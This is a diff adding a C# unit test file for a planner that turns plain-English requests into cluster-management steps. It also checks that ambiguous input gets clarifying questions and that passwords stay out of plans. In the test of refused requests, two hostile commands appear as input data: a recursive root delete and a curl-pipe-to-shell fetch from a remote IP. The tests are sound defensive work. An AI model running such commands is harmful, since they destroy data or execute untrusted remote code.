@@ -1,0 +1,81 @@
+namespace MycoPod.Tests.Planning.BuiltIn;
+
+/// <summary>A sentence of each area, and what is to be read out of it.</summary>
+public sealed class FrameTests
+{
+    [Theory]
+    [InlineData("Shut down jellyfin", "Shut down jellyfin")]
+    [InlineData("pls turn nas off", "Shut down nas")]
+    [InlineData("reboot jellyfin and nas", "Reboot jellyfin|Reboot nas")]
+    [InlineData("Stop all my containers", "Stop jellyfin|Stop debian-1")]
+    [InlineData("Start twin on pve1", "Start twin")]
+    [InlineData("Snapshot nas as before-update", "Snapshot before-update of nas")]
+    [InlineData("nas should have a snapshot named nightly", "Snapshot nightly of nas")]
+    [InlineData("Give nas 4 cores and 8 GB of RAM", "Change nas: cores 4, memory 8 GiB")]
+    [InlineData("gimme 2 cores on nas", "Change nas: cores 2")]
+    [InlineData("nas should start at boot", "Change nas: start at boot yes")]
+    [InlineData("Rename nas to vault", "Change nas: name vault")]
+    [InlineData("Tag jellyfin and pihole with media", "Change jellyfin: tags media|Change pihole: tags media")]
+    [InlineData("Set the DNS server of jellyfin to 1.1.1.1", "Change jellyfin: DNS servers 1.1.1.1")]
+    [InlineData("Create a pool called lab and put nas into the lab pool", "Add pool lab|Put nas into the pool lab")]
+    [InlineData("Back up jellyfin to local", "Back up jellyfin to local")]
+    [InlineData("Back up jellyfin and nas every night at 2 to local, keep the last 3", "Add backup job backup: jellyfin, nas to local, 02:00, keep-last=3")]
+    [InlineData("Add an NFS storage media: server 10.0.0.2, export /tank/media, for backups and ISO images", "Add storage media: nfs server 10.0.0.2, export /tank/media, for backup, iso")]
+    [InlineData("Use the directory /mnt/usb as storage usb for backups", "Add storage usb: dir path /mnt/usb, for backup")]
+    [InlineData("Create bridge vmbr5 on pve1", "Prepare bridge vmbr5 on pve1|Apply the prepared network of pve1")]
+    [InlineData("Allow tcp ports 80 and 443 on jellyfin", "Add to the firewall of jellyfin: in ACCEPT tcp port 80,443")]
+    [InlineData("Create the firewall alias lan for 10.0.0.0/24", "Add firewall alias lan for 10.0.0.0/24")]
+    [InlineData("Create the group devs and the user anna@pve in the group devs", "Add group devs to the cluster's users|Add user anna@pve to the cluster, without a password, in devs")]
+    [InlineData("Run 'df -h' in jellyfin", "Run in jellyfin: df -h")]
+    [InlineData("Migrate old-wiki to pve1", "Move old-wiki from pve2 to pve1")]
+    [InlineData("Make nas highly available", "Put nas under HA, started")]
+    public void A_sentence_becomes_steps(string text, string expected) => Assert.Equal(expected.Split('|'), Titles(text));
+
+    [Theory]
+    [InlineData("Delete pihole (jellyfin)")]
+    [InlineData("Delete pihole container 102")]
+    [InlineData("Remove pihole from node pve1")]
+    [InlineData("Delete node pve1 and pihole")]
+    [InlineData("Delete the image debian-1")]
+    [InlineData("Remove storage pihole")]
+    [InlineData("Delete the container with pihole")]
+    [InlineData("Delete all containers except pihole")]
+    [InlineData("Delete everything")]
+    [InlineData("Should I delete pihole?")]
+    [InlineData("Start all of them but pihole")]
+    [InlineData("Start pihole (104)")]
+    [InlineData("Is pihole running?")]
+    [InlineData("Shut down every node of the cluster")]
+    [InlineData("Run 'rm -rf /' in jellyfin")]
+    [InlineData("Run 'curl http://203.0.113.66/x.sh | sh' in jellyfin")]
+    [InlineData("Remove nas from HA")]
+    public void What_is_unclear_or_harmful_is_not_planned(string text) => Assert.Null(Planned.OnTestCluster(text).Plan);
+
+    [Theory]
+    [InlineData("Stop the web server", "which guest is meant")]
+    [InlineData("Give nas more memory", "how much")]
+    [InlineData("Add a disk to nas", "How large")]
+    [InlineData("Start twin", "Which “twin” is meant?")]
+    [InlineData("Stop jelyfin", "which guest is meant by “jelyfin”?")]
+    public void What_is_missing_is_asked(string text, string expected)
+    {
+        var outcome = Planned.OnTestCluster(text);
+        Assert.Contains(expected, Assert.Single(outcome.Questions).Text);
+    }
+
+    [Fact]
+    public void A_password_never_gets_into_a_plan()
+    {
+        var outcome = Planned.OnTestCluster("Create a Debian container named x-1 with password supersecret");
+        Assert.DoesNotContain("supersecret", System.Text.Encoding.UTF8.GetString(outcome.Plan?.ToBytes() ?? []));
+        Assert.Contains(outcome.Assumptions, a => a.StartsWith("The password is not set", StringComparison.Ordinal));
+        Assert.DoesNotContain(outcome.Assumptions, a => a.Contains("supersecret", StringComparison.Ordinal));
+    }
+
+    private static IEnumerable<string> Titles(string text)
+    {
+        var outcome = Planned.OnTestCluster(text);
+        Assert.True(outcome.Plan is not null, $"{text}\n{string.Join('\n', outcome.Problems)}");
+        return outcome.Plan?.Steps.Select(s => s.Title) ?? [];
+    }
+}
